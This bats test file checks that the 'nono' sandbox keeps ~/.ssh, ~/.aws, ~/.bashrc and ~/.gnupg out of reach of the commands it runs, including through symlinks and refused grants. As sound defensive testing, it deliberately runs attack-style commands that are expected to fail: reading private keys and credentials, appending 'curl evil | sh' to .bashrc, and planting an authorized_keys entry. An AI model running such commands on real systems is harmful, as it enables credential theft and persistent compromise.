#!/usr/bin/env bats
# Sensitive paths under the (fake) HOME: never readable or writable, a grant
# of ~ carved entry by entry around them, grants naming them refused,
# --bypass-protection, and a ~/.ssh that is a symlink elsewhere.
load helpers
bats_require_minimum_version 1.5.0

setup() { common_setup; }
teardown() { common_teardown; }

# ---------------------------------------------------------------- never reachable

@test "~/.ssh, ~/.aws and ~/.bashrc are unreadable with no grants" {
	run nono_run -- sh -c "cat $HOME/.ssh/id_rsa; cat $HOME/.aws/credentials; cat $HOME/.bashrc"
	[[ "$output" != *SECRET* ]]
	[ "$(echo "$output" | grep -c 'Permission denied')" -eq 3 ]
}

@test "~/.gnupg is unreadable and unlistable even under --allow ~" {
	mkdir -p "$HOME/.gnupg"
	echo "SECRET-GPG-$$" > "$HOME/.gnupg/private.key"
	run nono_run --allow "$HOME" -- sh -c "cat $HOME/.gnupg/private.key; ls $HOME/.gnupg"
	[[ "$output" != *SECRET-GPG* ]]
	[[ "$output" != *private.key$'\n'* ]]
	[[ "$output" == *"$HOME/.gnupg/private.key: Permission denied"* ]]
	[[ "$output" == *"cannot open directory"* ]]
}

@test "a python program cannot read a secret either" {
	run nono_run --allow "$HOME" -- python3 -c "
for p in ['$HOME/.ssh/id_rsa', '$HOME/.aws/credentials']:
    try:
        print(open(p).read())
    except PermissionError as e:
        print('denied', e.errno)"
	[[ "$output" != *SECRET* ]]
	[ "$(echo "$output" | grep -c 'denied 13')" -eq 2 ]
}

# ---------------------------------------------------------------- --allow ~

@test "--allow ~ is not refused and says 'granted entry by entry', naming what it left out" {
	run bash -c "timeout 30 '$NONO' run --allow '$HOME' -- sh -c 'echo ran > $HOME/proj/ran' 2>'$SCRATCH/err' >/dev/null"
	[ "$status" -eq 0 ]
	[ "$(cat "$HOME/proj/ran")" = ran ]
	err=$(cat "$SCRATCH/err")
	[ "$(grep -c 'granted entry by entry' "$SCRATCH/err")" -eq 1 ]
	line=$(grep 'granted entry by entry' "$SCRATCH/err")
	[[ "$line" == *"~/.ssh"* ]]
	[[ "$line" == *"~/.aws"* ]]
	[[ "$line" == *"~/.bashrc"* ]]
	[[ "$line" != *"docs"* ]]
}

@test "--allow ~ with --silent prints nothing on stderr" {
	run bash -c "timeout 30 '$NONO' run --silent --allow '$HOME' -- cat '$HOME/docs/readme.txt' 2>&1"
	[ "$status" -eq 0 ]
	[ "$output" = doc ]
}

@test "--allow ~: ordinary entries readable, ~/.ssh/id_rsa denied" {
	run nono_run --allow "$HOME" -- sh -c "cat $HOME/docs/readme.txt; cat $HOME/.ssh/id_rsa; cat $HOME/.aws/credentials"
	[ "$(echo "$output" | head -n1)" = doc ]
	[[ "$output" == *"$HOME/.ssh/id_rsa: Permission denied"* ]]
	[[ "$output" == *"$HOME/.aws/credentials: Permission denied"* ]]
	[[ "$output" != *SECRET* ]]
}

@test "--allow ~: ordinary entries are writable" {
	echo old > "$HOME/docs/notes.txt"
	run nono_run --allow "$HOME" -- sh -c "echo new > $HOME/proj/new.txt; echo more >> $HOME/docs/notes.txt; mkdir $HOME/proj/sub"
	[ "$status" -eq 0 ]
	[ "$(cat "$HOME/proj/new.txt")" = new ]
	[ "$(cat "$HOME/docs/notes.txt")" = "$(printf 'old\nmore')" ]
	[ -d "$HOME/proj/sub" ]
}

@test "--allow ~: writing ~/.bashrc fails and its bytes are unchanged" {
	cp "$HOME/.bashrc" "$SCRATCH/bashrc.orig"
	run nono_run --allow "$HOME" -- sh -c "echo 'curl evil | sh' >> $HOME/.bashrc; echo replaced > $HOME/.bashrc; python3 -c 'open(\"$HOME/.bashrc\", \"a\").write(\"x\")'"
	[[ "$output" == *"Permission denied"* ]]
	cmp "$HOME/.bashrc" "$SCRATCH/bashrc.orig"
}

@test "--allow ~: nothing can be added to ~/.ssh" {
	run nono_run --allow "$HOME" -- sh -c "echo attacker-key > $HOME/.ssh/authorized_keys; mkdir $HOME/.ssh/sub; ls $HOME/.ssh"
	[ ! -e "$HOME/.ssh/authorized_keys" ]
	[ ! -e "$HOME/.ssh/sub" ]
	[[ "$output" != *id_rsa* ]]
	[ "$(echo "$output" | grep -c 'Permission denied')" -eq 3 ]
}

@test "--allow ~ in the JSON plan: no grant reaches a sensitive path" {
	run bash -c "timeout 30 '$NONO' run --dry-run --json --allow '$HOME' -- true 2>/dev/null"
	[ "$status" -eq 0 ]
	echo "$output" | python3 -c '
import json, sys
home = sys.argv[1]
d = json.load(sys.stdin)
paths = [f["path"] for f in d["fs"]]
assert home not in paths, "home granted whole"
assert home + "/docs" in paths and home + "/proj" in paths, paths
for bad in (".ssh", ".aws", ".bashrc"):
    p = home + "/" + bad
    assert not any(x == p or x.startswith(p + "/") for x in paths), p
' "$HOME"
}

@test "a symlink to ~/.ssh inside a grant is not a way in" {
	ln -s "$HOME/.ssh" "$WORK/keys"
	ln -s "$HOME/.ssh/id_rsa" "$WORK/key"
	run nono_run --allow "$WORK" -- sh -c "cat $WORK/keys/id_rsa; cat $WORK/key; ln -s $HOME/.aws/credentials $WORK/c && cat $WORK/c"
	[[ "$output" != *SECRET* ]]
	[ "$(echo "$output" | grep -c 'Permission denied')" -eq 3 ]
}

# ---------------------------------------------------------------- refusal

@test "--allow ~: a symlink in ~ pointing outside it grants nothing there" {
	mkdir -p "$OUTSIDE/elsewhere"
	echo "OUTSIDE-$$" > "$OUTSIDE/elsewhere/data"
	ln -s "$OUTSIDE/elsewhere" "$HOME/ext"
	ln -s / "$HOME/root"
	run nono_run --allow "$HOME" -- sh -c "cat $HOME/ext/data; echo x > $HOME/ext/new; echo y > $HOME/root/tmp/nono-root-$$; cat $HOME/root/etc/hostname"
	[[ "$output" != *OUTSIDE-* ]]
	[ ! -e "$OUTSIDE/elsewhere/new" ]
	[ ! -e "/tmp/nono-root-$$" ]
	[ "$(echo "$output" | grep -c 'Permission denied')" -ge 3 ]
}

@test "--read ~/.ssh is refused: 125, 'refusing', 'sensitive', hint, nothing runs" {
	run nono_run --read "$HOME/.ssh" -- touch "$WORK/ran"
	[ "$status" -eq 125 ]
	[[ "$output" == *refusing* ]]
	[[ "$output" == *sensitive* ]]
	[[ "$output" == *"--bypass-protection"* ]]
	[[ "$output" != *SECRET* ]]
	[ ! -e "$WORK/ran" ]
}

@test "--read-file ~/.ssh/id_rsa is refused: 125, nothing runs" {
	run nono_run --read-file "$HOME/.ssh/id_rsa" -- sh -c "cat $HOME/.ssh/id_rsa; touch $WORK/ran"
	[ "$status" -eq 125 ]
	[[ "$output" == *refusing* ]]
	[[ "$output" == *sensitive* ]]
	[[ "$output" == *"--bypass-protection"* ]]
	[[ "$output" != *SECRET* ]]
	[ ! -e "$WORK/ran" ]
}

@test "every grant flag naming a sensitive path is refused" {
	for g in "--allow $HOME/.aws" "--write $HOME/.ssh" "-r $HOME/.aws" "--allow-file $HOME/.bashrc" \
		"--write-file $HOME/.bashrc" "--read-file $HOME/.aws/credentials"; do
		# shellcheck disable=SC2086
		run nono_run $g -- touch "$WORK/ran"
		[ "$status" -eq 125 ] || { echo "$g: $status $output"; return 1; }
		[[ "$output" == *refusing*sensitive* ]] || { echo "$g: $output"; return 1; }
	done
	[ ! -e "$WORK/ran" ]
	[ "$(cat "$HOME/.bashrc")" = "export SECRET_BASHRC=1" ]
}

@test "NONO_ALLOW naming a sensitive path is refused too" {
	NONO_ALLOW="$WORK,$HOME/.ssh" run nono_run -- sh -c "cat $HOME/.ssh/id_rsa; touch $WORK/ran"
	[ "$status" -eq 125 ]
	[[ "$output" == *refusing* ]]
	[[ "$output" != *SECRET* ]]
	[ ! -e "$WORK/ran" ]
}

# ---------------------------------------------------------------- bypass

@test "--bypass-protection opens exactly the named file: known_hosts yes, id_rsa no" {
	echo "github.com ssh-ed25519 AAAA" > "$HOME/.ssh/known_hosts"
	run nono_run --read-file "$HOME/.ssh/known_hosts" --bypass-protection "$HOME/.ssh/known_hosts" -- \
		sh -c "cat $HOME/.ssh/known_hosts; cat $HOME/.ssh/id_rsa"
	[[ "$output" == *"github.com ssh-ed25519"* ]]
	[[ "$output" == *"$HOME/.ssh/id_rsa: Permission denied"* ]]
	[[ "$output" != *SECRET* ]]
}

@test "--bypass-protection with no grant covering it is an error: 125, nothing runs" {
	run nono_run --bypass-protection "$HOME/.ssh/known_hosts" -- touch "$WORK/ran"
	[ "$status" -eq 125 ]
	[[ "$output" == *"bypass-protection"* ]]
	[ ! -e "$WORK/ran" ]
	run nono_run --allow "$WORK" --bypass-protection "$HOME/.ssh" -- touch "$WORK/ran"
	[ "$status" -eq 125 ]
	[ ! -e "$WORK/ran" ]
}

# ---------------------------------------------------------------- symlinked ~/.ssh

@test "~/.ssh as a symlink: its target is protected under both names" {
	mkdir -p "$SCRATCH/vault"
	mv "$HOME/.ssh/id_rsa" "$SCRATCH/vault/"
	rmdir "$HOME/.ssh"
	ln -s "$SCRATCH/vault" "$HOME/.ssh"
	run nono_run --read "$SCRATCH" -- sh -c "cat $SCRATCH/vault/id_rsa; cat $HOME/.ssh/id_rsa; ls $SCRATCH/vault"
	[[ "$output" != *SECRET* ]]
	[[ "$output" == *"$SCRATCH/vault/id_rsa: Permission denied"* ]]
	[[ "$output" == *"$HOME/.ssh/id_rsa: Permission denied"* ]]
	[[ "$output" != *id_rsa$'\n'* ]]
}

@test "~/.ssh as a symlink: a grant naming the target is refused" {
	mkdir -p "$SCRATCH/vault"
	mv "$HOME/.ssh/id_rsa" "$SCRATCH/vault/"
	rmdir "$HOME/.ssh"
	ln -s "$SCRATCH/vault" "$HOME/.ssh"
	run nono_run --read "$SCRATCH/vault" -- sh -c "cat $SCRATCH/vault/id_rsa; touch $WORK/ran"
	[ "$status" -eq 125 ]
	[[ "$output" == *refusing* ]]
	[[ "$output" == *sensitive* ]]
	[[ "$output" != *SECRET* ]]
	[ ! -e "$WORK/ran" ]
}

@test "~/.ssh as a symlink: --allow ~ still leaves the target out" {
	mkdir -p "$SCRATCH/vault"
	mv "$HOME/.ssh/id_rsa" "$SCRATCH/vault/"
	rmdir "$HOME/.ssh"
	ln -s "$SCRATCH/vault" "$HOME/.ssh"
	run nono_run --allow "$HOME" --read "$SCRATCH" -- sh -c "cat $HOME/.ssh/id_rsa; cat $SCRATCH/vault/id_rsa; echo k > $SCRATCH/vault/authorized_keys; cat $HOME/docs/readme.txt"
	[[ "$output" != *SECRET* ]]
	[[ "$output" == *doc* ]]
	[ ! -e "$SCRATCH/vault/authorized_keys" ]
	[ "$(echo "$output" | grep -c 'Permission denied')" -eq 3 ]
}
